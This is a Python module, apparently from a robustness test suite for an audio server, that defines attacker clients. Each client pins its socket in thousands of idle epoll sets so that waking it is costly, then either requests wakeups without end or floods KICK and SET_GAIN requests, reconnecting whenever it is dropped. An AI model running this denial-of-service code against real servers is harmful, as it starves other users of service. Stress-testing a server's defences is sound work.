"""
Attackers whose sockets are dear to wake: each has thousands of idle epoll entries on its
own end. Every send to it, every message that is received from it, walks them all.
"""

import contextlib
import os
import select
import struct
import sys
import time

sys.dont_write_bytecode = True
import protocol_client as pc

RATE = 48000
DUPLICATES = 15000
# Small sets: to close one holds a processor inside the kernel, which is not our question.
SET_ENTRIES = 1000
DESCRIPTORS = DUPLICATES + 1000  # with the sets, and what a process needs besides
BUFFER_FRAMES = 4096
LEAST_PERIOD_FRAMES = 16
PAUSE_SECONDS = 0.0005
GAIN_1 = struct.pack("=II", 1000, 0)


class Entries:
    """`count` entries for a descriptor in epoll sets that nothing waits for."""

    def __init__(self, fd, count):
        self._copies = [os.dup(fd) for _ in range(min(count, DUPLICATES))]
        self._sets = []
        for number in range(count):
            if number % SET_ENTRIES == 0:
                self._sets.append(select.epoll())
            self._sets[-1].register(self._copies[number % DUPLICATES],
                                    select.EPOLLIN | select.EPOLLOUT)

    def close(self):
        for one in self._sets:
            one.close()
        for fd in self._copies:
            os.close(fd)


def open_silence(path, memfd):
    """A stream on `main` that is silent, and whose period is the least there is."""
    stream = pc.Stream(pc.PLAYBACK, "main", path, memfd=memfd, name="dear",
                       max_ring_bytes=4 * BUFFER_FRAMES)
    stream.set_params("S16_LE", 2, RATE, LEAST_PERIOD_FRAMES, BUFFER_FRAMES)
    stream.write(bytes(2 * BUFFER_FRAMES))
    stream.tell(avail_min=1, stop_threshold=pc.NEVER)
    stream.start()
    return stream


def besiege(path, ready, entries, memfd, go_on):
    """Such a stream, and another in its place when it was dropped."""
    is_ready = False
    while True:
        with contextlib.ExitStack() as ends, \
                contextlib.suppress(pc.Dropped, pc.Refused, TimeoutError):
            stream = open_silence(path, memfd)
            ends.callback(stream.close)
            held = Entries(stream.connection.socket.fileno(), entries)
            ends.callback(held.close)
            if not is_ready:
                ready(entries)
            is_ready = True
            go_on(stream)


def wish_wakes(path, ready, entries, memfd):
    """Play silence, and wish to be woken all the time."""
    def go_on(stream):
        wish = 100
        while True:
            wish += 1
            while stream.connection.receive(0):
                pass
            stream.tell(armed=wish, written=stream.limit() + BUFFER_FRAMES // 2)
            time.sleep(PAUSE_SECONDS)
    besiege(path, ready, entries, memfd, go_on)


def ask_without_end(path, ready, entries):
    """Requests and kicks in a row, as many as the socket takes; answers are read."""
    def go_on(stream):
        stream.connection.socket.setblocking(False)
        serial = 0
        while True:
            serial += 1
            with contextlib.suppress(BlockingIOError):
                while True:
                    stream.connection.send(pc.KICK)
                    stream.connection.send(pc.SET_GAIN, GAIN_1, serial)
            with contextlib.suppress(BlockingIOError):
                while True:
                    stream.connection.receive()
    besiege(path, ready, entries, True, go_on)
